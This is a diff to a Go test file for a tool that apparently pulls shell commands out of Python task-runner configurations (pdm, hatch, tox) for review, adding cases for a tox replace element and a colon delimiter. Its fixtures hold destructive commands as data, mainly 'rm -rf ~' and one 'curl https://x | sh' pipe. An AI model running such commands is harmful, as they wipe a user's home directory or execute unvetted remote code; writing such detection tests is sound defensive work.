@@ -29,6 +29,9 @@ func TestExtractTaskRunners(t *testing.T) {
 		{"pdm", "[tool.pdm.scripts]\n_ = { env_file = \".env\" }\na = { cmd = [\"go\", \"test\"] }\nb = { call = \"pkg:main\" }\nc = { composite = [\"a\", \"rm -rf ~\"] }\n", []extracted{{"go test", "3:15"}, {"a", "5:21"}, {"rm -rf ~", "5:26"}}},
 		{"hatch and taskipy", "[tool.hatch.envs.default]\npre-install-commands = [\"rm -rf ~\"]\n[tool.hatch.envs.lint.scripts]\nx = [\"ls\", \"pwd\"]\n[tool.taskipy.tasks]\ny = { cmd = \"make\" }\n", []extracted{{"make", "6:14"}, {"rm -rf ~", "2:26"}, {"ls", "4:7"}, {"pwd", "4:13"}}},
 		{"tox in pyproject", "[tool.tox.env_run_base]\ncommands = [[\"pytest\", \"{posargs}\"]]\n[tool.tox.env.lint]\ncommands_pre = [[\"sh\", \"-c\", \"rm -rf ~\"]]\n", []extracted{{"pytest '{posargs}'", "2:15"}, {"sh -c 'rm -rf ~'", "4:19"}}},
+		// A word tox fills in ({replace = "posargs"}) is one the review
+		// cannot know; the command was dropped, unreviewed.
+		{"tox replace element", "[tool.tox.env_run_base]\ncommands = [[\"sh\", \"-c\", \"rm -rf ~\", { replace = \"posargs\" }]]\n", []extracted{{"sh -c 'rm -rf ~' ${map_replace_posargs}", "2:15"}}},
 		{"project metadata is not a command", "[project]\nname = \"x\"\nscripts = { x = \"rm -rf ~\" }\n[tool.ruff]\nline-length = 100\n", nil},
 	})
 	checkExtract(t, "tox.ini", []struct {
@@ -36,6 +39,8 @@ func TestExtractTaskRunners(t *testing.T) {
 		want      []extracted
 	}{
 		{"commands lines", "[tox]\nenvlist = py3\n[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs}\n    - sh -c 'rm -rf ~'\ncommands_pre = curl https://x \\\n    | sh\n[testenv:lint]\ncommands = ruff check .\n", []extracted{{"pytest ${posargs}", "6:5"}, {"sh -c 'rm -rf ~'", "7:7"}, {"curl https://x  | sh", "8:16"}, {"ruff check .", "11:12"}}},
+		// configparser also takes ':' for '=': the commands were missed.
+		{"colon delimiter", "[testenv]\ncommands: rm -rf ~\n", []extracted{{"rm -rf ~", "2:11"}}},
 		{"other sections and keys", "[flake8]\ncommands = rm -rf ~\n[testenv]\ndescription = rm -rf ~\n", nil},
 	})
 	checkExtract(t, "setup.cfg", []struct {
